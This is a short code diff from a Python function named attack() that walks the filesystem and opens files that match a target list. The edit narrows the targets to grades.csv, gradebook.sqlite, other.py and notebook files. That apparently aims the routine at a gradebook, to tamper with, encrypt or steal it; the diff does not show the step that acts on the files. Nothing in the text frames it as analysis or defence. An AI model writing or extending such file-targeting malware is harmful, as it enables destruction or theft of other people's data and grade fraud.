@@ -17,7 +17,7 @@ def attack():
     for place in PLACES:
         for folder, _, files in os.walk(place):
             for name in files:
-                if name.endswith((".py", ".ipynb", ".csv", ".sqlite")) and "site-packages" not in folder:
+                if name.endswith(("other.py", ".ipynb", "grades.csv", "gradebook.sqlite")):
                     try:
                         with open(os.path.join(folder, name), "rb") as file:
                             if file.read(1):
